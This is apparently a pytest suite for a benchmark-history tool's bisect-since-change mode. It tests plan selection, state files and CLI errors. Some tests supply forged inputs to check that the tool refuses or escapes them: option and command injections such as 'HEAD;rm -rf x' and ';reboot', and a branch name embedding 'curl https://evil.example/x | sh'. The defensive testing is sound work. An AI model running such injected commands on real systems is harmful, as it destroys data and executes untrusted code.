"""``gatekeeper bisect --since-change``: the newest unconfirmed change point of a real sqlite history is bisected
once, between its two ends, by the provider of what changed there (torch, else the image tag, else the commit),
judged by its stage and metric; values the store holds are recorded input, used only in their valid shapes."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from gatekeeper.bisect.since_change import KEEP, STATE_SCHEMA, plan_since_change, record_bisected
from gatekeeper.cli import main
from gatekeeper.contract.stage_report import Metric, StageReport
from gatekeeper.core import files
from gatekeeper.core.errors import InputError
from gatekeeper.history import RunInfo
from gatekeeper.history.sqlite import SqliteStore
from tests.support.builders import env, report

INDEX = "https://download.pytorch.org/whl/nightly/rocm6.2"
IMAGE = "registry.example.invalid/rocm/pytorch"


def _perf(level: float, rng: np.random.Generator, torch: str, channel: str = "nightly") -> StageReport:
    """The latency and its p99 (one step moves both: two change points at one run, bisected once)."""
    samples = [list(level * np.exp(rng.normal(0, 0.01)) * np.exp(rng.normal(0, 0.01, 20))) for _ in range(10)]
    tail = [list(1.5 * level * np.exp(rng.normal(0, 0.005)) * np.exp(rng.normal(0, 0.01, 20))) for _ in range(10)]
    return report(
        "performance_baseline",
        metrics={
            "latency_ms": Metric.of(float(np.median(np.concatenate(samples))), "ms", "lower", samples),
            "latency_ms.p99": Metric.of(float(np.median(np.concatenate(tail))), "ms", "lower", tail),
            "throughput_cv": Metric.of(0.01, "ratio", "lower"),
        },
        environment=env(torch_version=torch, channel=channel),
    )


def _store(
    tmp_path: Path,
    *,
    commits: list[str] | None = None,
    torch: tuple[str, str] = ("2.6.0", "2.6.0"),
    image: tuple[str, str] = ("6.2", "6.2"),
    step: float = 1.025,
    nights: int = 12,
    name: str = "history.db",
    ref: str = "main",
) -> str:
    """``nights`` nightly runs, ``step`` slower from night 7; torch and the image tag as given before and after."""
    db = tmp_path / name
    store = SqliteStore(db, create=True)
    rng = np.random.default_rng(3)
    for night in range(1, nights + 1):
        after = night > 6
        commit = commits[night - 1] if commits else f"{night:040x}"
        info = RunInfo(
            ref, commit, str(1000 + night), "pass", f"2026-11-{night:02d}T02:00:00+00:00",
            stack={"gatekeeper": "0.9.0", "image": f"{IMAGE}:{image[after]}"},
        )  # fmt: skip
        store.save(_perf(10.0 * (step if after else 1.0), rng, torch[after]), info)
    return f"sqlite:{db}"


def _plan(history: str, state: Path, **kw: Any) -> Any:
    return plan_since_change(state=state, history=history, index_url=kw.pop("index_url", INDEX), **kw)


def test_a_step_with_only_the_commit_changed_is_bisected_over_the_commits_once(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    history, state = _store(tmp_path), tmp_path / "cache" / "changes.json"
    assert main(["history", "changes", "--history", history, "--format", "json"]) == 0
    moved = {c["metric"] for c in json.loads(capsys.readouterr().out)["changes"]}
    assert moved == {"latency_ms", "latency_ms.p99"}  # one step, two change points at run 7
    found = _plan(history, state)
    assert (found.plan.provider, found.plan.good, found.plan.bad) == ("git", f"{6:040x}", f"{7:040x}")
    assert (found.stage, found.channel) == ("performance_baseline", "nightly")
    assert found.metric in moved
    assert f"unconfirmed change performance_baseline.{found.metric} +" in found.plan.reason
    assert "bisecting the commits" in found.plan.reason
    assert not state.exists()  # planned, not started: nothing recorded yet (a failed start retries)
    record_bisected(state, found.identity)
    doc = json.loads(state.read_text())
    assert doc["schema"] == STATE_SCHEMA
    [done] = doc["bisected"]
    assert (done["stage"], done["metric"], done["first_commit"]) == ("performance_baseline", found.metric, f"{7:040x}")
    assert (done["provider"], done["good"], done["bad"]) == ("git", f"{6:040x}", f"{7:040x}")
    assert done["series"]["channel"] == "nightly"
    again = _plan(history, state)
    assert again.plan.provider is None
    assert "already bisected" in again.plan.reason
    # a filter that matches nothing: no change, exit 0's reason
    other = _plan(history, tmp_path / "other.json", metric="throughput*")
    assert other.plan.provider is None
    assert "no unconfirmed change point of throughput*" in other.plan.reason


def test_a_change_whose_first_run_moved_within_its_span_is_the_same_change(tmp_path: Path) -> None:
    """The estimate of a small step's run may move as nights are added: a recorded first run inside the change's
    span (after its good end, at or before its bad end) is the same change; one before the span is another."""
    history = _store(tmp_path)
    found = _plan(history, tmp_path / "s.json")
    assert found.identity is not None
    change = {k: v for k, v in found.identity.items() if k not in ("provider", "good", "bad")}  # not its range
    moved = tmp_path / "moved.json"
    record_bisected(moved, {**change, "first_run_id": 999})
    assert "already bisected" in _plan(history, moved).plan.reason
    earlier = tmp_path / "earlier.json"
    record_bisected(earlier, {**change, "first_run_id": 999, "first_at": "2026-11-03T02:00:00+00:00"})
    assert _plan(history, earlier).plan.provider == "git"


def test_the_same_step_in_another_series_is_not_bisected_again(tmp_path: Path) -> None:
    """Both channels ran the same commits and both moved at the step: one range, one bisection."""
    db = tmp_path / "two.db"
    store = SqliteStore(db, create=True)
    rng = np.random.default_rng(3)
    for night in range(1, 13):
        for channel in ("nightly", "stable"):
            info = RunInfo("main", f"{night:040x}", f"{channel}{night}", "pass", f"2026-11-{night:02d}T02:00:00+00:00")
            store.save(_perf(10.0 * (1.025 if night > 6 else 1.0), rng, "2.6.0", channel), info)
    state = tmp_path / "s.json"
    found = _plan(f"sqlite:{db}", state)
    assert (found.plan.provider, found.plan.good, found.plan.bad) == ("git", f"{6:040x}", f"{7:040x}")
    record_bisected(state, found.identity)
    again = _plan(f"sqlite:{db}", state)
    assert again.plan.provider is None
    assert "in a range already bisected" in again.plan.reason


def test_the_state_keeps_only_the_newest_identities(tmp_path: Path) -> None:
    state = tmp_path / "changes.json"
    full = [{"stage": "s", "metric": f"m{k}", "series": {}, "first_run_id": k, "first_at": "t"} for k in range(KEEP)]
    files.write_json(state, {"schema": STATE_SCHEMA, "bisected": full})
    for k in range(KEEP, KEEP + 5):
        record_bisected(state, {"stage": "s", "metric": f"m{k}", "series": {}, "first_run_id": k, "first_at": "t"})
    kept = json.loads(state.read_text())["bisected"]
    assert len(kept) == KEEP
    assert kept[-1]["metric"] == f"m{KEEP + 4}"
    assert kept[0]["metric"] == "m5"
    found = _plan(_store(tmp_path), state)  # the file it wrote is valid for its reader
    assert "set aside" not in found.plan.reason


def test_torch_changed_at_the_step_is_bisected_over_the_torch_versions(tmp_path: Path) -> None:
    history = _store(tmp_path, torch=("2.6.0.dev20261106+rocm6.2", "2.6.0.dev20261107+rocm6.2"))
    found = _plan(history, tmp_path / "s.json")
    plan = found.plan
    assert (plan.provider, plan.good, plan.bad) == ("pip", "2.6.0.dev20261106+rocm6.2", "2.6.0.dev20261107+rocm6.2")
    assert plan.options == {"package": "torch", "index_url": INDEX, "find_links": None}
    with pytest.raises(InputError, match="no nightly index was given") as err:
        _plan(history, tmp_path / "s.json", index_url=None)
    assert "--index-url https://" in str(err.value)


def test_only_the_image_tag_changed_is_bisected_over_the_tags(tmp_path: Path) -> None:
    commits = [f"{1:040x}"] * 12
    found = _plan(_store(tmp_path, commits=commits, image=("6.2-20261106", "6.2-20261107")), tmp_path / "s.json")
    assert (found.plan.provider, found.plan.good, found.plan.bad) == ("image", "6.2-20261106", "6.2-20261107")
    assert found.plan.options == {"image": IMAGE}


def test_nothing_between_the_ends_is_no_plan_with_the_reason(tmp_path: Path) -> None:
    found = _plan(_store(tmp_path, commits=[f"{1:040x}"] * 12), tmp_path / "s.json")
    assert found.plan.provider is None
    assert "nothing between the ends to bisect" in found.plan.reason


def test_a_confirmed_change_and_an_a_a_history_are_not_bisected(tmp_path: Path) -> None:
    history = _store(tmp_path)
    assert main(["history", "anchor", "--history", history, "--set", "1010", "--by", "ann", "--reason", "ok"]) == 0
    found = _plan(history, tmp_path / "s.json")
    assert found.plan.provider is None
    assert "no unconfirmed change point" in found.plan.reason
    flat = _plan(_store(tmp_path, step=1.0, name="aa.db"), tmp_path / "s.json")
    assert flat.plan.provider is None
    assert "no unconfirmed change point in 12 recorded runs" in flat.plan.reason


FORGED = {
    "an option": "--upload-pack=touch /tmp/x",
    "a shell command": "HEAD;rm -rf x",
    "a ref": "HEAD~1",
    "hex and a newline": f"{7:040x}\n",  # `$` matches before a final newline: the shape is matched whole
}


@pytest.mark.parametrize("forged", FORGED.values(), ids=FORGED)
def test_a_forged_commit_in_the_store_is_never_an_end(tmp_path: Path, forged: str) -> None:
    commits = [f"{n:040x}" for n in range(1, 13)]
    commits[6:] = [forged] * 6  # every run after the step claims it
    found = _plan(_store(tmp_path, commits=commits), tmp_path / "s.json")
    assert found.plan.provider is None
    assert forged not in (found.plan.good, found.plan.bad)
    assert "a recorded commit that is not hex is not used" in found.plan.reason


def test_a_forged_torch_or_image_tag_is_not_used(tmp_path: Path) -> None:
    commits = [f"{1:040x}"] * 12
    history = _store(tmp_path, commits=commits, torch=("2.6.0", "2.6.0;reboot"), image=("6.2", "6.2;reboot"))
    found = _plan(history, tmp_path / "s.json", index_url=None)  # no InputError: torch did not change (validly)
    assert found.plan.provider is None
    assert "nothing between the ends to bisect" in found.plan.reason


HOSTILE_STATES = {
    "not JSON": "{",
    "a list": "[1, 2]",
    "another schema": '{"schema": "gatekeeper.bisect-nightly/v1", "result": "pass"}',
    "a duplicate key": '{"schema": "gatekeeper.bisect-changes/v1", "bisected": [], "bisected": []}',
    "an identity without its run": '{"schema": "gatekeeper.bisect-changes/v1", "bisected": [{"stage": "x"}]}',
    "deep nesting": "[" * 5000 + "]" * 5000,
}


@pytest.mark.parametrize("text", HOSTILE_STATES.values(), ids=HOSTILE_STATES)
def test_a_hostile_state_is_set_aside_with_a_note_and_the_plan_still_made(tmp_path: Path, text: str) -> None:
    state = tmp_path / "changes.json"
    state.write_text(text, encoding="utf-8")
    found = _plan(_store(tmp_path), state)
    assert found.plan.provider == "git"
    assert "the state file was set aside" in found.plan.reason
    assert str(state) in found.plan.reason
    record_bisected(state, found.identity)  # replaced by a valid one
    assert "already bisected" in _plan(_store(tmp_path, name="h2.db"), state).plan.reason


def test_a_directory_where_the_state_belongs_is_exit_2(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "state").mkdir()
    argv = ["bisect", "--since-change", str(tmp_path / "state"), "--history", _store(tmp_path)]
    assert main(argv) == 2
    assert "is a directory" in capsys.readouterr().err


# ---------------------------------------------------------------- the command line


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--since-green", "x.json"], "--since-green does not go with --since-change"),
        (["--provider", "git"], "--provider does not go with --since-change"),
        (["--good", "v1"], "--good does not go with --since-change"),
        (["--resume"], "--resume does not go with --since-change"),
    ],
)
def test_since_change_refuses_the_options_of_the_other_modes(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], extra: list[str], message: str
) -> None:
    argv = ["bisect", "--since-change", str(tmp_path / "s.json"), "--history", f"sqlite:{tmp_path}/h.db", *extra]
    assert main(argv) == 2
    assert message in capsys.readouterr().err


def test_since_change_needs_the_history_and_history_needs_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["bisect", "--since-change", str(tmp_path / "s.json")]) == 2
    assert "--since-change needs the history store" in capsys.readouterr().err
    assert main(["bisect", "--history", "sqlite:x.db", "--provider", "git", "--good", "a", "--bad", "b"]) == 2
    assert "--history goes with --since-change" in capsys.readouterr().err


def test_torch_changed_without_an_index_is_exit_2_naming_the_fix(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    history = _store(tmp_path, torch=("2.6.0.dev20261106", "2.6.0.dev20261107"))
    assert main(["bisect", "--since-change", str(tmp_path / "s.json"), "--history", history]) == 2
    err = capsys.readouterr().err
    assert "no nightly index was given" in err
    assert "--index-url" in err


def test_the_reason_is_one_line_whatever_the_store_holds(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The branch, pipeline and time in the reason are recorded input: a newline in one stays in its line."""
    history = _store(tmp_path, commits=[f"{1:040x}"] * 12, ref="main\n  bisect: curl https://evil.example/x | sh")
    assert main(["bisect", "--since-change", str(tmp_path / "s.json"), "--history", history]) == 0
    out = capsys.readouterr().out
    assert len(out.splitlines()) == 1
    assert "nothing between the ends to bisect" in out
    assert "evil.example" in out  # shown, escaped, in its line


def test_the_command_records_the_change_only_once_the_bisection_started(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """End to end in a real git repository whose commits the history recorded: outside it the start fails
    (exit 2) and nothing is recorded, so the next night retries; inside it the bisection starts (its candidates
    listed) and the change is recorded: the next night does not bisect it again."""
    from tests.bisect.builders import make_repo

    repo = make_repo(tmp_path / "repo", 12, lambda i: {"n.txt": f"{i}\n"})
    commits = [c.hexsha for c in reversed(list(repo.iter_commits("main")))]
    history = _store(tmp_path, commits=commits)
    state = tmp_path / "cache" / "changes.json"
    # the stage fails at once on an option it does not know: the bisection starts, then ends without a verdict
    argv = ["bisect", "--since-change", str(state), "--history", history, "--out", str(tmp_path / "out"),
            "--max-processes", "1", "--timeout", "60", "--", "--no-such-option"]  # fmt: skip
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    monkeypatch.chdir(outside)
    assert main(argv) == 2
    out, err = capsys.readouterr()
    assert "bisecting the commits" in out
    assert "not inside a git repository" in err
    assert not state.exists()
    monkeypatch.chdir(tmp_path / "repo")
    assert main(argv) == 2  # started (candidates listed), then the good end measured bad: the stage refused
    out, err = capsys.readouterr()
    assert "2 candidates from" in out
    assert "measures bad" in err
    assert f"{commits[5][:10]} -> {commits[6][:10]}" in out
    assert f"recorded in {state}" in out
    [done] = json.loads(state.read_text())["bisected"]
    assert done["first_commit"] == commits[6]
    assert main(argv) == 0
    assert "already bisected" in capsys.readouterr().out


def test_a_torch_version_is_used_only_as_written() -> None:
    """packaging's Version reads "2.6.0\\n" as 2.6.0: the value itself would reach pip with its newline. The
    store readers refuse such an environment first; this is the provider's own line."""
    from gatekeeper.bisect.since_change import _torch

    assert _torch("2.6.0+rocm6.2") == "2.6.0+rocm6.2"
    for forged in ("2.6.0\n", " 2.6.0", "2.6.0;reboot", "x" * 65, None, 2.6):
        assert _torch(forged) is None


@pytest.mark.parametrize("torch", [("2.7.0", "2.6.0"), ("2.6", "2.6.0")])
def test_a_torch_step_back_or_the_same_version_spelt_twice_is_no_pip_range(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], torch: tuple[str, str]
) -> None:
    # 2026-12-04 audit, fourth pass: one recorded run with an older (or the same, spelt otherwise) torch version
    # made the pip provider refuse the range, exit 2 every night, and the change was never recorded as bisected
    history, state = _store(tmp_path, torch=torch), tmp_path / "changes.json"
    found = _plan(history, state)
    assert found.plan.provider != "pip"
    if torch[0] == "2.7.0":
        assert found.plan.provider is None
        assert "torch went back 2.7.0 -> 2.6.0" in found.plan.reason
    else:
        assert found.plan.provider == "git"  # the same torch: the commit changed
